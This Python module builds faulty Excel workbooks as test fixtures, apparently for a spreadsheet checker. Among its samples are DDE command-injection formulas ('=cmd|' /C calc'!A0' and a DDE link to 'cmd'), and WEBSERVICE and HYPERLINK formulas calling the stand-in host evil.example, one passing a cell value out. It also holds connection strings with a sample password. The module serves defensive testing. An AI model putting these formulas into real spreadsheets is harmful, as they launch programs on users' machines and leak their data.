"""Sick workbooks, each made for the tests that name what is wrong with it."""

from __future__ import annotations

import zipfile
from collections.abc import Callable, Mapping
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import xlsxwriter

__all__ = ["BOOKS", "edited", "sound"]

SHEET = "xl/worksheets/sheet1.xml"
RELATIONS = "xl/worksheets/_rels/sheet1.xml.rels"
RELATIONS_HEAD = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
TYPE_HEAD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
DAY = date(2024, 5, 1)


def edited(
    path: Path,
    target: Path,
    changes: Mapping[str, list[tuple[str, str]]] | None = None,
    *,
    add: Mapping[str, str | bytes] | None = None,
    drop: tuple[str, ...] = (),
) -> Path:
    """A copy of a workbook with replacements in its parts, further parts, and without some."""
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for name in source.namelist():
            if name in drop:
                continue
            body = source.read(name)
            for old, new in (changes or {}).get(name, ()):
                assert old.encode() in body, f"{old} is not in {name}: {body[:3000]!r}"
                body = body.replace(old.encode(), new.encode())
            out.writestr(name, body)
        for name, body in (add or {}).items():
            out.writestr(name, body)
    return target


def sound(path: Path) -> Path:
    """A list of orders in three currencies with formulas, a table, and nothing wrong."""
    book = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_urls": False})
    sheet = book.add_worksheet("Orders")
    day, money = book.add_format({"num_format": "yyyy-mm-dd"}), book.add_format({"num_format": "#,##0.00"})
    headings = ["Order No.", "Order date", "Customer", "Currency", "Amount", "Rate", "Amount CNY"]
    for row in range(1, 13):
        sheet.write_row(row, 0, [f"PI-{row}", None, f"Customer {row}"])
        sheet.write_datetime(row, 1, DAY + timedelta(row), day)
        sheet.write(row, 3, ("USD", "EUR", "JPY")[row % 3])
        sheet.write_number(row, 4, 100 * row, money)
        sheet.write_number(row, 5, 7)
        sheet.write_formula(row, 6, f"=E{row + 1}*F{row + 1}", money, 700 * row)
    columns = [{"header": heading} for heading in headings]
    sheet.add_table(0, 0, 12, 6, {"name": "tblOrders", "columns": columns})
    sheet.write_formula("G15", "=SUM(G2:G13)", money, 700 * 78)
    sheet.write_formula("G16", "=SUM(tblOrders[Amount CNY])", money, 700 * 78)
    sheet.write_formula("E16", '=SUMIFS(tblOrders[Amount],tblOrders[Currency],"USD")', money, 3000)
    book.close()
    return path


def _list(path: Path, headings: list[str], rows: list[list[Any]], **options: Any) -> tuple[Any, Any]:
    book = xlsxwriter.Workbook(
        str(path), {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False, **options}
    )
    sheet = book.add_worksheet("Data")
    sheet.write_row(0, 0, headings)
    for number, values in enumerate(rows, start=1):
        sheet.write_row(number, 0, values)
    return book, sheet


def values(path: Path) -> Path:
    """Numbers and dates that are text, days of the other date system, headings twice, texts like formulas."""
    rows: list[list[Any]] = [[f"PI-{n}", "30/04/2024", 100 + n, 45000 + n, "USD", f"note {n}"] for n in range(1, 21)]
    book, sheet = _list(path, ["Order No.", "Order date", "Amount", "Due date", "Currency", "Note", "note"], rows)
    day = book.add_format({"num_format": "yyyy-mm-dd"})
    for n in range(1, 21):
        sheet.write_number(n, 3, 45000 + n - (1462 if n in (7, 8) else 0), day)
    for n in (3, 4, 9):
        sheet.write_string(n, 2, "1,234.50")
    sheet.write_string(5, 1, "03/04/2024")
    sheet.write_string(6, 5, "=cmd|' /C calc'!A0")
    sheet.write_string(7, 5, "+49 171 555 0100")
    sheet.write_string(8, 5, "- see the letter")
    other = book.add_worksheet("Days")
    other.write_row(0, 0, ["Code", "Order date", "Phone", "Amount"])
    for n in range(1, 9):
        other.write_row(n, 0, [f"0{n}", "2024-04-30" if n % 2 else "30-Apr-2024", "4917155501", f"USD {n}00.50"])
    book.close()
    return path


def formulas(path: Path) -> Path:
    """Errors and where they begin, functions nobody knows, circles, stale and missing results."""
    book, sheet = _list(path, ["What", "A", "B", "C"], [[f"row {n}", n, n + 1, n + 2] for n in range(1, 30)])
    write = sheet.write_formula
    write("D2", "=B2/E2", None, "#DIV/0!")
    write("D3", "=D2*2", None, "#DIV/0!")
    write("D4", "=SUM(D2:D3)", None, "#DIV/0!")
    write("E5", "=VLOOKUP(9,A1:B3,2,FALSE)", None, "#N/A")
    write("F5", "=#REF!+1", None, "#REF!")
    write("G5", '=B2+"x"', None, "#VALUE!")
    write("H5", "=SQRT(-1)", None, "#NUM!")
    write("I5", "=SUM(A1:A2 B1:B2)", None, "#NULL!")
    write("J5", "=B2", None, "#SPILL!")
    write("K5", "=B2", None, "#BUSY!")
    write("L5", '=IFERROR(#REF!+1,"none")', None, "none")
    write("M5", "=MYSTERY(B2)", None, "#NAME?")
    write("N5", '=FX_RATE("USD","CNY",45000)', None, "#NAME?")
    write("O5", '=_xldudf_WB_FX_RATE("USD","CNY",45000)', None, 7)
    write("P5", '=_xll.FX_RATE("USD","CNY",45000)', None, 7)
    write("Q5", '=TEXTJOIN(",",TRUE,A1:A2)', None, "x")
    write("R5", "=_xlfn.XLOOKUP(1,A1:A2,B1:B2)", None, 1)
    write("S5", "='C:\\tools\\fx.xlam'!FX_SUM(B2:B3)", None, 1)
    write("T5", "=NOW()", None, 45000)
    write("U5", '=WEBSERVICE("https://evil.example/")', None, "x")
    write("V5", '=HYPERLINK("https://evil.example/?q="&B2,"open")', None, "open")
    write("W5", "=cmd|'/C calc'!A0", None, 0)
    write("B40", "=SUM(B2:B40)", None, 0)
    write("C40", "=C41", None, 0)
    write("C41", "=C40+1", None, 0)
    write("D40", "=B2+B3", None, 99)
    write("E40", "=B2*B3", None, 2)
    write("F40", "=B2+1")
    book.define_name("Broken", "=Data!$A$1")
    book.add_worksheet("xlwings.conf").write_row("A1", ["Interpreter_Win", "\\\\server\\python.exe"])
    book.close()
    return edited(
        path,
        path.with_name("formulas-edited.xlsx"),
        {
            "xl/workbook.xml": [
                ("Data!$A$1", "#REF!$A$1"),
                ("<calcPr ", '<calcPr calcMode="manual" iterate="1" fullPrecision="0" '),
                ("<workbookPr ", '<workbookPr date1904="1" '),
            ],
            SHEET: [
                ('<c r="F40"><f>B2+1</f><v>0</v></c>', '<c r="F40"><f>B2+1</f></c>'),
                ('<c r="K5" t="str"><f>B2</f><v>#BUSY!</v></c>', '<c r="K5" t="e"><f>B2</f><v>#BUSY!</v></c>'),
                ('<c r="J5" t="str"><f>B2</f><v>#SPILL!</v></c>', '<c r="J5" t="e"><f>B2</f><v>#SPILL!</v></c>'),
                ('<c r="B30"><v>29</v></c>', '<c r="B30" t="e"><v>#N/A</v></c>'),
            ],
        },
    )


def sums(path: Path) -> Path:
    """Sums over formats of several currencies, and over a column beside which several codes stand; a summary by currency."""
    codes = ["USD", "EUR", "USD", "CNY"]
    rows = [[f"PI-{n}", codes[n % 4], 10 * n, 70 * n, None, n] for n in range(1, 13)]
    book, sheet = _list(path, ["Order No.", "Currency", "Amount", "Amount CNY", "Price", "Quantity"], rows)
    dollar, euro = (book.add_format({"num_format": code}) for code in ("[$$-409]#,##0.00", '#,##0.00 "€"'))
    for n in range(1, 13):
        sheet.write_number(n, 4, n, dollar if n % 2 else euro)
    for cell, formula, result in (
        ("C15", "=SUM(C2:C13)", 780),
        ("D15", "=SUM(D2:D13)", 5460),
        ("E15", "=SUM(E2:E13)", 78),
        ("F15", "=SUM(F2:F13)", 78),
        ("C16", '=SUMIF(B2:B13,"USD",C2:C13)', 420),
        ("E16", "=E2+E3", 3),
    ):
        sheet.write_formula(cell, formula, None, result)
    summary = book.add_worksheet("By currency")
    summary.write_row(0, 0, ["Currency", "Total"])
    for row, code in enumerate(("USD", "EUR", "JPY"), start=1):
        summary.write_row(row, 0, [code, 100 * row])
    summary.write_formula("B5", "=SUM(B2:B4)", None, 600)
    book.close()
    return path


def layout(path: Path) -> Path:
    """Hidden data, empty formatted rows and columns, fragments, merges."""
    book, sheet = _list(path, ["Name", "City", "Amount", "Note"], [[f"n{n}", "x", n, "y"] for n in range(1, 61)])
    grey, bold = book.add_format({"bg_color": "#EEEEEE"}), book.add_format({"bold": True})
    sheet.set_row(4, None, None, {"hidden": True})
    sheet.set_column("D:D", 8, None, {"hidden": True})
    for row in range(61, 3_000):
        sheet.write_blank(row, 0, None, grey)
    for column in range(4, 150):
        sheet.write_blank(1, column, None, grey)
    for n in range(30):
        sheet.conditional_format(n + 1, 2, n + 1, 2, {"type": "cell", "criteria": ">", "value": 5, "format": bold})
        sheet.data_validation(n + 1, 1, n + 1, 1, {"validate": "list", "source": ["x", "y"]})
    sheet.merge_range("B10:B12", "x")
    for state in ("hide", "very_hidden"):
        hidden = book.add_worksheet(state)
        hidden.write("A1", "secret")
        getattr(hidden, state)()
    table = book.add_worksheet("Table")
    table.add_table("A1:B5", {"name": "tblOne", "columns": [{"header": "One"}, {"header": "Two"}]})
    table.add_table("D1:E5", {"name": "tblTwo", "columns": [{"header": "One"}, {"header": "Two"}]})
    table.write("A6", "z")
    filtered = book.add_worksheet("Filtered")
    filtered.write_column("A1", ["Name", "a", "b", "a"])
    filtered.write_column("B1", ["Amount", 1, 2, 3])
    filtered.autofilter("A1:B4")
    filtered.filter_column("A", "x == a")
    filtered.set_row(2, None, None, {"hidden": True})
    book.close()
    merge = '<mergeCell ref="B10:B12"/>'
    return edited(
        path,
        path.with_name("layout-edited.xlsx"),
        {
            SHEET: [(merge, merge + '<mergeCell ref="B12:C12"/>'), ('<c r="A20"', '<c r="B20"')],
            "xl/worksheets/sheet4.xml": [
                ("</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="A2:A3"/></mergeCells>')
            ],
            "xl/tables/table1.xml": [('name="Two"', 'name="Zwei"')],
            "xl/tables/table2.xml": [
                ('name="tblTwo" displayName="tblTwo" ref="D1:E5"', 'name="tblOne" displayName="tblOne" ref="B1:C5"')
            ],
        },
    )


def styles(path: Path) -> Path:
    """A table over fewer columns than it has, very many styles, links and a text beyond what Excel keeps."""
    sound(path)
    formats = "".join('<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>' for _n in range(5_000))
    links = "".join(f'<hyperlink ref="A{n}" location="\'Orders\'!A1"/>' for n in range(1, 65_600))
    return edited(
        path,
        path.with_name("styles-edited.xlsx"),
        {
            "xl/styles.xml": [("</cellXfs>", formats + "</cellXfs>")],
            "xl/tables/table1.xml": [('ref="A1:G13"', 'ref="A1:F13"')],
            "xl/sharedStrings.xml": [("Customer 12", "Customer " + "x" * 33_000)],
            SHEET: [("<tableParts", f"<hyperlinks>{links}</hyperlinks><tableParts")],
        },
    )


def carrying(path: Path) -> Path:
    """Macros, macro sheets, connections, a query, embedded files, a signature, a ribbon, links to other books and DDE."""
    sound(path)
    relations = "".join(
        f'<Relationship Id="rIdX{n}" Type="{TYPE_HEAD}/externalLink" Target="externalLinks/externalLink{n}.xml"/>'
        for n in (1, 2)
    )
    references = "".join(f'<externalReference r:id="rIdX{n}"/>' for n in (1, 2))
    mashup = "Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Password=hunter2"
    return edited(
        path,
        path.with_name("carrying-edited.xlsx"),
        {
            "xl/workbook.xml": [("</sheets>", f"</sheets><externalReferences>{references}</externalReferences>")],
            "xl/_rels/workbook.xml.rels": [("</Relationships>", f"{relations}</Relationships>")],
            SHEET: [("<f>SUM(G2:G13)</f>", "<f>[1]Plan!A1</f>")],
        },
        add={
            "xl/vbaProject.bin": b"\x00",
            "xl/macrosheets/sheet1.xml": f"<macrosheet {MAIN}/>",
            "xl/embeddings/oleObject1.bin": b"\x00",
            "_xmlsignatures/sig1.xml": "<Signature/>",
            "customUI/customUI14.xml": "<customUI/>",
            "xl/connections.xml": f'<connections {MAIN}><connection id="1" name="Orders"><dbPr connection="{mashup}"/>'
            '</connection><connection id="2" name="Bank"><dbPr connection="DSN=bank;UID=li;PWD=hunter2"/></connection>'
            "</connections>",
            "xl/externalLinks/externalLink1.xml": f'<externalLink {MAIN}><externalBook xmlns:r="{TYPE_HEAD}" r:id="rId1"/>'
            "</externalLink>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": f'{RELATIONS_HEAD}<Relationship Id="rId1" '
            f'Type="{TYPE_HEAD}/externalLinkPath" Target="Budget%202024.xlsx" TargetMode="External"/></Relationships>',
            "xl/externalLinks/externalLink2.xml": f'<externalLink {MAIN}><ddeLink ddeService="cmd" ddeTopic="/C calc"/>'
            "</externalLink>",
        },
    )


def broken_package(path: Path) -> Path:
    """Parts that are missing, of another type, or no XML; a sheet without a part."""
    sound(path)
    return edited(
        path,
        path.with_name("broken-edited.xlsx"),
        {
            "[Content_Types].xml": [("spreadsheetml.styles+xml", "spreadsheetml.table+xml")],
            "xl/workbook.xml": [("</sheets>", '<sheet name="Lost" sheetId="9" r:id="rId99"/></sheets>')],
            "xl/tables/table1.xml": [("</table>", "")],
        },
        drop=("xl/theme/theme1.xml",),
    )


def live(path: Path) -> Path:
    """An export that another program has written without care, and a book whose macros may bring a function."""
    names = ["Nord AB", "Süd KG", "West Ltd", "Ost SA"] * 8
    book, sheet = _list(path, ["Customer", "Note"], [[name, f"note {n}"] for n, name in enumerate(names)])
    sheet.write_formula("A7", '=HYPERLINK("https://evil.example/","Nord AB")', None, "Nord AB")
    sheet.write_formula("B9", "=+49-171-555", None, -677)
    sheet.write_formula("D1", "=HOUSE_RULE(1)", None, 1)
    book.close()
    return edited(path, path.with_name("live-edited.xlsm"), add={"xl/vbaProject.bin": b"\x00"})


BOOKS: dict[str, Callable[[Path], Path]] = {
    made.__name__: made for made in (values, formulas, sums, layout, styles, carrying, broken_package, live)
}
